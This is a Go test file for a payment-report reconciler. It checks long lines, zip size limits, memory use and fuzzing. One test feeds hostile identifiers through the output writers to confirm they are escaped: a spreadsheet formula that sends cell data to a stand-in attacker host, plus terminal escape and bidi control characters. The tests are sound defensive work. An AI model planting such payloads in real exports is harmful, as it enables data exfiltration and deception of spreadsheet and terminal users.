package reconcile_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/text/encoding/charmap"

	"github.com/qiwigen/qiwigen/contracttest/reconcile"
)

// repeated reads n copies of b, making nothing: a long line costs the test no memory.
type repeated struct {
	b byte
	n int64
}

func (r *repeated) Read(p []byte) (int, error) {
	if r.n <= 0 {
		return 0, io.EOF
	}
	n := min(int64(len(p)), r.n)
	for i := range n {
		p[i] = r.b
	}
	r.n -= n
	return int(n), nil
}

// readAll reads a report, returning its good rows' transaction IDs and its bad rows.
func readAll(t *testing.T, r io.Reader, enc reconcile.Encoding) (good []string, bad []*reconcile.RowError, err error) {
	t.Helper()
	err = reconcile.ReadReport("r.csv", r, enc, func(row reconcile.Row) error { good = append(good, row.TransactionID); return nil },
		func(e *reconcile.RowError) error { bad = append(bad, e); return nil })
	return good, bad, err
}

// A line longer than 1 MiB is a bad row at its line, skipped without being kept (reading a
// 16 MiB line allocates a small part of it), and the rows after it are read; in UTF-8 and in
// Windows-1251.
func TestLongLineIsABadRow(t *testing.T) {
	first := row("D1", "10,00", "26.08.2020 9:00", "1", "10,00", "0", "P1", "", "", "payment", "643")
	last := row("D1", "10,00", "26.08.2020 9:00", "2", "10,00", "0", "P2", "", "", "payment", "643")
	for _, enc := range []reconcile.Encoding{reconcile.EncodingUTF8, reconcile.EncodingWin1251} {
		in := io.MultiReader(strings.NewReader(header+"\n"+first+"\n"), &repeated{'7', 16 << 20}, strings.NewReader("\n"+last+"\n"))
		var before, after runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&before)
		good, bad, err := readAll(t, in, enc)
		runtime.ReadMemStats(&after)
		require.NoError(t, err, enc)
		assert.Equal(t, []string{"1", "2"}, good, "%s: the read goes on after the long line", enc)
		require.Len(t, bad, 1, enc)
		assert.Equal(t, 3, bad[0].Line, enc)
		assert.ErrorIs(t, bad[0], reconcile.ErrReport)
		assert.Contains(t, bad[0].Error(), "r.csv:3: the line is longer than 1 MiB: skipped", enc)
		assert.Less(t, after.TotalAlloc-before.TotalAlloc, uint64(8<<20), "%s: a 16 MiB line is not held", enc)
	}
}

// A quoted field that does not close before the limit is a bad row at its first line, and
// the read of the file ends there: where the record ends is no longer known.
func TestRunawayQuoteEndsTheRead(t *testing.T) {
	first := row("D1", "10,00", "26.08.2020 9:00", "1", "10,00", "0", "P1", "", "", "payment", "643")
	var lines strings.Builder
	for lines.Len() < 2<<20 {
		lines.WriteString(strings.Repeat("x", 1000) + "\n") // short lines, one quoted field
	}
	text := header + "\n" + first + "\n" + `1;"` + lines.String() + "\"\n" + first + "\n"
	good, bad, err := readAll(t, strings.NewReader(text), reconcile.EncodingUTF8)
	require.NoError(t, err)
	assert.Equal(t, []string{"1"}, good)
	require.Len(t, bad, 1)
	assert.Equal(t, 3, bad[0].Line)
	assert.Contains(t, bad[0].Error(), "a quoted field runs past 1 MiB from here")
}

// An identifier longer than any QIWI gives is a bad row naming its column, and a long value
// is not repeated whole in a message: what a bad row keeps is small.
func TestLongValuesAreCut(t *testing.T) {
	long := strings.Repeat("9", 100_000)
	for col, text := range map[string]string{
		"TRANSACTION_ID": row("D1", "10,00", "26.08.2020 9:00", long, "10,00", "0", "P1", "", "", "payment", "643"),
		"PURPOSE":        row("D1", "10,00", "26.08.2020 9:00", "1", "10,00", "0", "P1", "", "", long, "643"),
		"SUM":            row("D1", "10,00", "26.08.2020 9:00", "1", long, "0", "P1", "", "", "payment", "643"),
		"TRANS_DATE":     row("D1", "10,00", long, "1", "10,00", "0", "P1", "", "", "payment", "643"),
	} {
		_, bad, err := readAll(t, strings.NewReader(header+"\n"+text+"\n"), reconcile.EncodingUTF8)
		require.NoError(t, err, col)
		require.Len(t, bad, 1, col)
		assert.Equal(t, col, bad[0].Column)
		assert.Less(t, len(bad[0].Error()), 300, col)
	}
}

// zipOf is a zip archive of the named entries.
func zipOf(t *testing.T, entries ...[2]string) string {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, e := range entries {
		f, err := zw.Create(e[0])
		require.NoError(t, err)
		_, err = f.Write([]byte(e[1]))
		require.NoError(t, err)
	}
	require.NoError(t, zw.Close())
	return write(t, "report.zip", buf.String())
}

// A zip entry expanding past its limit, or entries past the archive's, is an error naming the
// entry, found before it is read; within the limits the archive reads.
func TestZipLimits(t *testing.T) {
	text := header + "\n" + strings.Repeat(row("D1", "10,00", "26.08.2020 9:00", "1", "10,00", "0", "P1", "", "", "payment", "643")+"\n", 5000) // about 750 KB
	ledger, err := reconcile.ReadLedger(write(t, "ledger.csv", ledgerHeader), nil)
	require.NoError(t, err)
	read := func(path string, l reconcile.Limits) (*reconcile.Result, error) {
		rec := reconcile.New(ledger).WithLimits(l)
		err := rec.ReadReport(path, "", nil, rec.Bad)
		return rec.Finish(), err
	}
	one := zipOf(t, [2]string{"big.csv", text})
	_, err = read(one, reconcile.Limits{Entry: 512 << 10})
	require.ErrorIs(t, err, reconcile.ErrTooLarge)
	require.ErrorIs(t, err, reconcile.ErrReport)
	assert.Contains(t, err.Error(), one+"!big.csv: too large: the entry expands to ")
	assert.Contains(t, err.Error(), "over the limit of 512 KiB an entry")

	two := zipOf(t, [2]string{"a.csv", text}, [2]string{"notes.txt", text}, [2]string{"b.csv", text})
	_, err = read(two, reconcile.Limits{Archive: 1 << 20})
	require.ErrorIs(t, err, reconcile.ErrTooLarge)
	assert.Contains(t, err.Error(), two+"!b.csv: too large: the archive's .csv entries expand to over 1 MiB together")

	res, err := read(two, reconcile.Limits{Entry: 2 << 20, Archive: 3 << 20})
	require.NoError(t, err)
	assert.Equal(t, 1, res.Rows)
}

// The default limits hold for OpenReport too: 1 GiB an entry.
func TestZipDefaultLimit(t *testing.T) {
	// A stored entry declaring more than the default: refused from its header alone.
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, err := zw.CreateRaw(&zip.FileHeader{Name: "huge.csv", Method: zip.Deflate, CompressedSize64: 2, UncompressedSize64: reconcile.DefaultEntryLimit + 1})
	require.NoError(t, err)
	_, err = w.Write([]byte{0x03, 0x00})
	require.NoError(t, err)
	require.NoError(t, zw.Close())
	path := write(t, "huge.zip", buf.String())
	err = reconcile.OpenReport(path, "", func(reconcile.Row) error { return nil }, func(e *reconcile.RowError) error { return e })
	require.ErrorIs(t, err, reconcile.ErrTooLarge)
	assert.Contains(t, err.Error(), path+"!huge.csv: too large: the entry expands to 1073741825 bytes, over the limit of 1 GiB an entry")
}

// A report without rows, or whose rows cover no day, against a ledger of settled entries is a
// finding that says how many went unchecked; against a ledger with nothing settled it is not.
func TestEmptyReportIsAFinding(t *testing.T) {
	ledger := write(t, "ledger.csv", ledgerHeader+
		"P1,,10.00,RUB,COMPLETED,2020-08-26T09:00:00+03:00,payment,\n"+
		"P2,,20.00,RUB,COMPLETED,2020-08-27T09:00:00+03:00,payment,\n"+
		"P3,,30.00,RUB,DECLINED,2020-08-27T09:00:00+03:00,payment,\n")
	res := run(t, write(t, "report.csv", header+"\n"), ledger, nil)
	require.Len(t, res.Differences, 1, "%+v", res.Differences)
	assert.Equal(t, reconcile.EmptyReport, res.Differences[0].Kind)
	assert.Equal(t, "the report has no rows; 2 settled ledger entries unchecked", res.Differences[0].Message)

	undated := strings.Replace(row("D1", "10,00", "", "9", "10,00", "0", "P9", "", "", "payment", "643"), "27.08.2020;27.08.2020", "27.08.2020;", 1)
	res = run(t, write(t, "report.csv", header+"\n"+undated+"\n"), ledger, nil)
	assert.Equal(t, 1, res.Counts()[reconcile.EmptyReport], "%+v", res.Differences)
	assert.Contains(t, res.Differences[len(res.Differences)-1].Message, "the report's 1 rows cover no day")

	nothingSettled := write(t, "ledger.csv", ledgerHeader+"P3,,30.00,RUB,DECLINED,2020-08-27T09:00:00+03:00,payment,\n")
	assert.Empty(t, run(t, write(t, "report.csv", header+"\n"), nothingSettled, nil).Differences)
}

// IDs from a hostile report: no CSV cell is a live formula, no text line carries a terminal
// escape, and JSON escapes the C1 controls; the values themselves survive, escaped.
func TestOutputInjection(t *testing.T) {
	formula := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	report := header + "\n" +
		row("D1", "10,00", "26.08.2020 9:00", "1", "10,00", "0", formula, "", "", "payment", "643") + "\n" +
		row("D1", "10,00", "26.08.2020 9:01", "2", "10,00", "0", "\x1b[2J\x1b[31mred\x07", "", "", "payment", "643") + "\n" +
		row("D1", "10,00", "26.08.2020 9:02", "3", "10,00", "0", "@SUM(1)\u009b31m\u202e", "", "", "payment", "643") + "\n" +
		row("D1", "10,00", "26.08.2020 9:03", "-4", "10,00", "0", "+1", "", "", "payment", "643") + "\n"
	res := run(t, write(t, "report.csv", report), write(t, "ledger.csv", ledgerHeader), nil)
	require.Len(t, res.Differences, 4)

	var out bytes.Buffer
	require.NoError(t, res.WriteCSV(&out))
	records, err := csv.NewReader(&out).ReadAll()
	require.NoError(t, err)
	for _, rec := range records[1:] {
		for _, cell := range rec {
			if cell != "" {
				assert.NotContains(t, "=+-@\t\r", cell[:1], "a cell a spreadsheet runs: %q", cell)
			}
		}
	}
	assert.Equal(t, "'"+formula, records[1][1])
	assert.Equal(t, "'-4", records[4][2])

	out.Reset()
	require.NoError(t, res.WriteText(&out))
	text := out.String()
	for _, c := range []string{"\x1b", "\x07", "\u009b", "\u202e"} {
		assert.NotContains(t, text, c)
	}
	assert.Contains(t, text, `payment \x1b[2J\x1b[31mred\x07 of 10.00`)
	assert.Contains(t, text, `payment @SUM(1)\x9b31m\u202e of 10.00`)

	out.Reset()
	require.NoError(t, res.WriteJSONLines(&out))
	assert.NotContains(t, out.String(), "\u009b")
	assert.NotContains(t, out.String(), "\u202e")
	var d reconcile.Difference
	require.NoError(t, json.Unmarshal([]byte(strings.Split(out.String(), "\n")[2]), &d))
	assert.Equal(t, "@SUM(1)\u009b31m\u202e", d.PaymentID, "JSON keeps the value, escaped")
}

// Printable leaves ordinary text alone (Cyrillic included) and escapes what a terminal acts on.
func TestPrintable(t *testing.T) {
	assert.Equal(t, "Перевод P1 (C:\\reports)", reconcile.Printable("Перевод P1 (C:\\reports)"))
	assert.Equal(t, `a\x1b[31mb\x0a\x0d\x7f\x9b\u2066\xff`, reconcile.Printable("a\x1b[31mb\n\r\x7f\u009b\u2066\xff"))
}

// A ledger's text is not kept: reading a ledger of long lines holds its entries' IDs, not the
// lines; and its entries carry their day.
func TestLedgerKeepsLittle(t *testing.T) {
	var b strings.Builder
	b.WriteString("paymentId,amount,status,dateTime,note\n")
	const n = 2000
	for range n {
		b.WriteString("P1,10.00,completed,2020-08-26T23:30:00+00:00," + strings.Repeat("x", 10_000) + "\n")
	}
	path := write(t, "ledger.csv", b.String())
	b.Reset()
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	ledger, err := reconcile.ReadLedger(path, nil)
	runtime.GC()
	runtime.ReadMemStats(&after)
	require.NoError(t, err)
	require.Equal(t, n, ledger.Len())
	assert.Less(t, int64(after.HeapAlloc)-int64(before.HeapAlloc), int64(2<<20), "%d entries of 10 KB lines", n)
	assert.EqualValues(t, 20200827, ledger.Entry(0).Day, "23:30 UTC is the next day in Moscow")
	assert.Equal(t, "COMPLETED", ledger.Entry(0).Status)
	runtime.KeepAlive(ledger)
}

// A JSON Lines ledger's line past 1 MiB is an error at its line, not "token too long".
func TestLedgerLongJSONLine(t *testing.T) {
	path := write(t, "ledger.jsonl", `{"paymentId": "P1", "amount": 1}`+"\n"+`{"paymentId": "`+strings.Repeat("x", 2<<20)+`"}`+"\n")
	_, err := reconcile.ReadLedger(path, nil)
	require.ErrorIs(t, err, reconcile.ErrLedger)
	assert.Contains(t, err.Error(), path+":2: bad ledger: the line is longer than 1048576 bytes")
}

// A report that cannot be read past its start is an error naming it, not a panic or a hang.
func TestUnreadableReport(t *testing.T) {
	broken := errors.New("disk gone")
	_, _, err := readAll(t, io.MultiReader(strings.NewReader("TRANSACTION_ID;SUM;PURPOSE\n"), failing{broken}), "")
	require.ErrorIs(t, err, broken)
	assert.Contains(t, err.Error(), "r.csv")
	cp, err := charmap.Windows1251.NewEncoder().String(header + "\n")
	require.NoError(t, err)
	_, _, err = readAll(t, strings.NewReader(cp), reconcile.EncodingWin1251)
	require.NoError(t, err)
}

// zipBytes is a zip archive of the named entries, as bytes.
func zipBytes(f *testing.F, entries ...[2]string) []byte {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, e := range entries {
		w, err := zw.Create(e[0])
		if err != nil {
			f.Fatal(err)
		}
		if _, err := w.Write([]byte(e[1])); err != nil {
			f.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		f.Fatal(err)
	}
	return buf.Bytes()
}

// FuzzReportFile reads fuzzed report files, plain or zipped, through the reconciler with
// small limits (lines of 200 bytes, entries of 64 KiB, archives of 96 KiB), so that the long
// lines, the runaway quotes and the zip limits are reached: no panic, no hang, every bad row
// and error names its file (and a bad row its line), and no message repeats a long value.
// Its seeds are below and in testdata/fuzz/FuzzReportFile.
func FuzzReportFile(f *testing.F) {
	good := header + "\n" + row("D1", "10,00", "26.08.2020 9:00", "1", "10,00", "0", "P1", "", "", "payment", "643") + "\n"
	long := header + "\n" + strings.Repeat("7", 300) + "\n" + row("D1", "10,00", "26.08.2020 9:00", "2", "10,00", "0", "P2", "", "", "refund", "643") + "\n"
	quote := "TRANSACTION_ID;SUM;PURPOSE\n1;10;payment\n2;\"" + strings.Repeat("x;\n", 100) + "\n3;10;payment\n"
	f.Add([]byte(good))
	f.Add([]byte(long))
	f.Add([]byte(quote))
	f.Add([]byte("TRANSACTION_ID;SUM;PURPOSE\n"))
	f.Add(zipBytes(f, [2]string{"a.csv", good}))
	f.Add(zipBytes(f, [2]string{"a.csv", long}, [2]string{"b.txt", good}, [2]string{"b.csv", quote}))
	f.Add(zipBytes(f, [2]string{"big.csv", header + "\n" + strings.Repeat(row("D1", "10,00", "26.08.2020 9:00", "1", "10,00", "0", "P1", "", "", "payment", "643")+"\n", 500)}))
	cp, err := charmap.Windows1251.NewEncoder().String(strings.Replace(good, "Perevod", "Перевод", 1))
	if err != nil {
		f.Fatal(err)
	}
	f.Add(zipBytes(f, [2]string{"cp.csv", cp}))
	ledger, err := reconcile.ReadLedger(write(f, "ledger.csv", ledgerHeader+"P1,,10.00,RUB,COMPLETED,2020-08-26T09:00:00+03:00,payment,\n"), nil)
	if err != nil {
		f.Fatal(err)
	}
	limits := reconcile.Limits{Line: 200, Entry: 64 << 10, Archive: 96 << 10}
	f.Fuzz(func(t *testing.T, data []byte) {
		path := filepath.Join(t.TempDir(), "r")
		if err := os.WriteFile(path, data, 0o600); err != nil {
			t.Fatal(err)
		}
		rec := reconcile.New(ledger).WithLimits(limits)
		err := rec.ReadReport(path, "", nil, func(e *reconcile.RowError) error {
			if e.Line <= 0 || !strings.HasPrefix(e.File, path) {
				t.Fatalf("row error without its place: %v", e)
			}
			if len(e.Error()) > len(e.File)+600 {
				t.Fatalf("a long message: %d bytes", len(e.Error()))
			}
			return rec.Bad(e)
		})
		if err != nil && !strings.HasPrefix(err.Error(), path) {
			t.Fatalf("error without the file: %v", err)
		}
		res := rec.Finish()
		for _, d := range res.Differences {
			if len(d.PaymentID) > reconcile.MaxIDBytes || len(d.TransactionID) > reconcile.MaxIDBytes {
				t.Fatalf("an ID longer than the limit: %+v", d)
			}
		}
	})
}

// A report of 400,000 bad lines (a gigabyte zip would hold 500 million) does not make as many
// differences to hold: the first Limits.Differences are listed, the rest counted, and every
// rendering says so.
func TestDifferencesPastTheLimitAreCounted(t *testing.T) {
	ledger, err := reconcile.ReadLedger(write(t, "ledger.csv", ledgerHeader), nil)
	require.NoError(t, err)
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	rec := reconcile.New(ledger)
	in := io.MultiReader(strings.NewReader("TRANSACTION_ID;SUM;PURPOSE\n"), &repeated{'\n', 1}, &lines{n: 400_000})
	require.NoError(t, reconcile.ReadReport("r.csv", in, "", rec.Row, rec.Bad))
	res := rec.Finish()
	runtime.GC()
	runtime.ReadMemStats(&after)
	assert.Len(t, res.Differences, reconcile.DefaultDifferences)
	assert.Equal(t, 400_000-reconcile.DefaultDifferences, res.Unlisted)
	assert.Equal(t, 400_000, res.Counts()[reconcile.BadRow])
	assert.Less(t, int64(after.HeapAlloc)-int64(before.HeapAlloc), int64(48<<20), "400,000 bad rows held")

	small := reconcile.New(ledger).WithLimits(reconcile.Limits{Differences: 2})
	require.NoError(t, small.ReadReport(write(t, "r.csv", "TRANSACTION_ID;SUM;PURPOSE\nx\ny\nz\n"), "", nil, small.Bad))
	res = small.Finish()
	var text, csvOut, jsonOut bytes.Buffer
	require.NoError(t, res.WriteText(&text))
	require.NoError(t, res.WriteCSV(&csvOut))
	require.NoError(t, res.WriteJSONLines(&jsonOut))
	assert.Contains(t, text.String(), "bad-row: 3\n1 differences not listed: only the first 2 are\n0 report operations, 3 differences\n")
	assert.Contains(t, csvOut.String(), "\nunlisted,,,,,,,,,,,,1 differences not listed: only the first 2 are\n")
	assert.Contains(t, jsonOut.String(), `"differences":3,"unlisted":1,"byKind":{"bad-row":3}`)
}

// lines reads n lines of "x", making nothing.
type lines struct{ n int }

func (l *lines) Read(p []byte) (int, error) {
	if l.n <= 0 {
		return 0, io.EOF
	}
	k := 0
	for k+2 <= len(p) && l.n > 0 {
		p[k], p[k+1] = 'x', '\n'
		k += 2
		l.n--
	}
	return k, nil
}
